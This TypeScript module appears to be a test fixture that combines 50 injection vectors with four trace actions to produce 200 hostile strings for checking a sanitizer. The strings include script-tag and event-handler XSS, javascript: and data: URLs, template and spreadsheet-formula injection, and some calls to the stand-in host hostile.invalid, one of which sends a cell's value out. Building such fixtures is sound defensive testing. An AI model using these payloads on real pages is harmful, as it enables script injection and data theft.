/**
 * Texts that try to become code, markup or somebody else's words. Each would leave a trace if it worked: it sets
 * `__hostile` on the window, opens a dialog, or asks `hostile.invalid` for something.
 */

/** What a payload does when it runs. */
const ACTIONS = [
  'globalThis.__hostile=1',
  'alert(1)',
  "fetch('https://hostile.invalid/')",
  "document.body.innerHTML='taken over'",
];

/** Ways into a page; `%` stands for the action. */
const VECTORS = [
  '<script>%</script>',
  '</title><script>%</script>',
  '"><script>%</script>',
  '<img src=x onerror="%">',
  '<img/src=x/onerror=%>',
  '<svg onload="%">',
  '<svg><animate onbegin="%" attributeName=x dur=1s>',
  '<body onload="%">',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<iframe src="javascript:%"></iframe>',
  '<details open ontoggle="%">x</details>',
  '<video><source onerror="%"></video>',
  '<input autofocus onfocus="%">',
  '<a href="javascript:%">join</a>',
  '<form action="javascript:%"><button>join</button></form>',
  '<object data="javascript:%"></object>',
  '<embed src="javascript:%">',
  '<math><mtext><table><mglyph><style><img src onerror="%">',
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '<style>@import "https://hostile.invalid/x.css";</style><b onclick="%">x</b>',
  '<link rel=stylesheet href="https://hostile.invalid/x.css"><i onmouseover="%">x</i>',
  '<meta http-equiv="refresh" content="0;url=javascript:%">',
  '<base href="https://hostile.invalid/"><script src=x.js></script><!--%-->',
  "';%;//",
  '`+(%)+`',
  '${%}',
  '{{constructor.constructor("%")()}}',
  '<x style="background:url(https://hostile.invalid/x.png)" onpointerenter="%">x',
  '&lt;script&gt;%&lt;/script&gt;',
  '\u0000<script>%</script>',
  '<scr\u0000ipt>%</scr\u0000ipt>',
  '<ſcript>%</ſcript>',
  'javascript:%',
  'JaVaScRiPt:%//https://meet.google.com/abc-defg-hij',
  'data:text/html,<script>%</script>',
  'vbscript:%',
  '\u202e<script>%</script>\u202c gpj.exe',
  '[click me](javascript:%)',
  '=HYPERLINK("https://hostile.invalid/?"&A1,"%")',
  '<template shadowrootmode=open><script>%</script></template>',
  '<portal src="https://hostile.invalid/" onload="%">',
  '<xss id=x tabindex=1 onfocusin="%">x</xss>',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle="%">y</div>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=%></svg>#x">',
  '<svg><script href="data:text/javascript,%"/></svg>',
  '<p><![CDATA[<script>%</script>]]></p>',
  '<!--<img src="--><img src=x onerror=%//">',
  '<textarea></textarea><img src=x onerror="%">',
  '<select><option></select><img src=x onerror="%">',
  '"autofocus onfocus="%" x="',
];

/** 200 texts: every way in with every action. */
export const HOSTILE_TEXTS: readonly string[] = VECTORS.flatMap((vector) =>
  ACTIONS.map((action) => vector.replaceAll('%', action)),
);
